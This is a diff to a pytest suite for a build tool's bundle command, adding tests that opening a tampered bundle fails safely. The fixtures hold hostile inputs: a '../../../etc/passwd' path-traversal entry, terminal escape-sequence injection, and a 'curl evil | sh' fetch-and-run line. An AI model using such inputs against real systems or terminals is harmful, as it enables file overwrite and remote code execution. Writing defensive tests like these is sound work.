@@ -933,13 +933,13 @@ def rewrite_whole(bundle, target, change):
     files = {}
     with tarfile.open(bundle) as tar:
         for member in tar:
-            if member.isfile() and not member.name.endswith('SUMS'):
+            if member.isfile() and member.name != 'bundle/SHA256SUMS':
                 made = change(member.name, tar.extractfile(member).read())
                 if made:
                     files[made[0]] = made[1]
     sums = ''.join(f'{hashlib.sha256(data).hexdigest()}  {name[7:]}\n' for name, data in sorted(files.items()))
     rewrite(bundle, target,
-            lambda n, d: (n, sums.encode()) if n.endswith('SUMS') else (n, files[n]) if n in files else None)
+            lambda n, d: (n, sums.encode()) if n == 'bundle/SHA256SUMS' else (n, files[n]) if n in files else None)
 
 
 @pytest.mark.parametrize('change,reason', [
@@ -953,6 +953,41 @@ def test_a_bundle_that_is_whole_and_lacks_a_package(bundled, change, reason):
     project.write('image/build', '#!/bin/bash\necho built\n', 0o755)
     done = run(project.top / 'reproducible/lib/from-bundle', project.folder / 'y.tar', env=project.env)
     assert done.returncode == 1 and reason in done.stderr and 'built' not in done.stdout, done
+    # Nor is it whole for who keeps it.
+    done = project.command('bundle', '--open', project.folder / 'y.tar', project.folder / 'opened')
+    assert done.returncode == 3 and reason in done.stderr, done
+
+
+@pytest.mark.parametrize('change,reason', [
+    (lambda n, d: None if n == 'bundle/lock' else (n, d), 'lacks lock'),
+    (lambda n, d: None if n == 'bundle/source.bundle' else (n, d), 'lacks source.bundle'),
+    (lambda n, d: (n, b'\x1b[2J 1 amd64 x 1 x base\n') if n == 'bundle/lock' else (n, d), 'lacks ?[2J 1'),
+    (lambda n, d: (n, b'a 1 amd64 ../../../etc/passwd 1 x base\n') if n == 'bundle/lock' else (n, d), 'lacks a 1'),
+    (lambda n, d: (n, b'another') if n.endswith('.manifest') else (n, d),
+     f'records/keyroom-{VERSION}-amd64.manifest is not what records/SHA256SUMS says')])
+def test_a_bundle_that_is_opened_is_one(bundled, change, reason):
+    """Its SHA256SUMS is whatever its maker wrote; --open ended 0 without sources."""
+    project, bundle, _ = bundled
+    project.write('attest/lock-reviewed', run('sha256sum', project.top / 'packages/trixie-amd64.lock').stdout.split()[0] + ' x\n')
+    project.commit()
+    assert project.release().returncode == 0
+    made = project.top / 'build/release' / VERSION
+    assert project.command('bundle', '--records', made, bundle).returncode == 0
+    rewrite_whole(bundle, project.folder / 'same.tar', lambda n, d: (n, d))
+    for name in (bundle, project.folder / 'same.tar'):
+        assert project.command('bundle', '--open', name, project.folder / 'good').returncode == 0
+    rewrite_whole(bundle, project.folder / 'y.tar', change)
+    done = project.command('bundle', '--open', project.folder / 'y.tar', project.folder / 'opened')
+    assert done.returncode == 3 and reason in done.stderr and '\x1b' not in done.stderr, done
+
+
+@pytest.mark.parametrize('make', [os.mkdir, os.mkfifo])
+def test_a_bundle_takes_no_folder_or_device_away(bundled, make):
+    """It went into the folder, under another name, with the status 0."""
+    project, _, _ = bundled
+    make(project.folder / 'there')
+    done = project.command('bundle', project.folder / 'there')
+    assert done.returncode == 5 and 'there: is no ordinary file' in done.stderr and not (project.folder / 'there').is_file(), done
 
 
 REPAINT = b'\x1b[2J\x1b]0;owned\x07run: curl evil | sh'
